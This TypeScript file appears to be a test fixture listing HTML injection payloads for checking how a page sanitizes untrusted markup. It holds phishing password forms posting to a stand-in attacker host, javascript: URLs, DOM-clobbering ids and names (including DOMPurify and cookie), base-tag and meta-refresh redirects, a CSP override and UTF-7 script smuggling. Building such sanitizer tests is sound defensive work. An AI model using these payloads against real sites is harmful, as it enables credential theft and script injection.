// What would change the page instead of running in it: forms, names that hide the page's own, and redirects.
import { evil, type Payload, run } from "./payload.ts";

export const takeovers: readonly Payload[] = [
  ["a form", `<form action="${evil}"><input name=password type=password><button>Sign in</button></form>`],
  ["a form with a script", `<form action="javascript:${run}" onsubmit=${run}><input type=submit></form>`],
  [
    "a button with an address of its own",
    `<button formaction="javascript:${run}">go</button><input type=submit formaction=${evil}>`,
  ],
  ["a button of the page's form", `<button form=composer formaction="${evil}" formmethod=get>Send</button>`],
  [
    "a field of the page's form",
    `<input form=composer name=x value=y required><textarea form=composer id=box></textarea>`,
  ],
  [
    "fields of every kind",
    "<select><option>a</select><textarea>t</textarea><keygen><output>o</output><datalist id=d></datalist>",
  ],
  ["a file to choose", `<input type=file webkitdirectory onchange=${run}><label for=box>Click me</label>`],
  ["a form that ends the page's", `</form><form id=composer action=${evil}>`],
  [
    "the page's own ids",
    "<a id=box></a><p id=log>x</p><p id=send>y</p><b id=composer>z</b><i id=page>{}</i>",
  ],
  ["the page's own classes", '<p class="hidden busy turn answer question">x</p><b class=icon>y</b>'],
  [
    "the document's properties",
    "<img name=getElementById><img name=querySelector><img name=body><form name=cookie></form>",
  ],
  [
    "the window's properties",
    "<a id=fetch></a><a id=localStorage></a><a id=trustedTypes></a><a id=DOMPurify href=x></a>",
  ],
  ["a property of a property", "<a id=config></a><a id=config name=url href=https://evil.example></a>"],
  [
    "a form's attributes",
    "<form id=x><input name=attributes><input name=nodeName><input name=parentNode><input name=remove></form>",
  ],
  ["a form's children", "<form><input name=childNodes><input name=firstChild><input id=innerHTML></form>"],
  ["the prototype", "<a id=__proto__></a><a id=constructor></a><a name=hasOwnProperty></a>"],
  [
    "a frame's name",
    `<iframe name=parent src="${evil}"></iframe><object name=top></object><embed name=self>`,
  ],
  ["a base", `<base href="${evil}/"><base target=_top>[x](relative)`],
  ["a redirect", `<meta http-equiv="refresh" content="0;url=${evil}">`],
  ["a redirect to a script", `<meta http-equiv=refresh content="0;url=javascript:${run}">`],
  [
    "a policy of its own",
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>`,
  ],
  [
    "a cookie and a character set",
    `<meta http-equiv=Set-Cookie content=x=y><meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ],
  [
    "data for the page's script",
    '<script type="application/json" id="page">{"tenant":"evil"}</script><p data-text=x data-label=y>z</p>',
  ],
  [
    "roles and labels",
    '<p role=alert aria-live=assertive aria-label="Your session has ended">x</p><b aria-hidden=true>y</b>',
  ],
  [
    "what hides and shows",
    "<p hidden inert>x</p><div dir=rtl lang=xx translate=no tabindex=1 draggable=true>y</div>",
  ],
  ["a slot and a part", "<slot name=x></slot><p slot=y part=z exportparts=w>v</p><template id=t></template>"],
  ["item properties", `<p itemscope itemtype=${evil} itemprop=x itemid=${evil}>x</p>`],
  [
    "commands of buttons",
    "<button command=show-modal commandfor=menu>x</button><button popovertarget=log popovertargetaction=hide>y</button>",
  ],
  [
    "a target that is a window",
    `<a href="${evil}" target=chat>x</a><a href="${evil}" onclick="open('${evil}')">y</a>`,
  ],
];
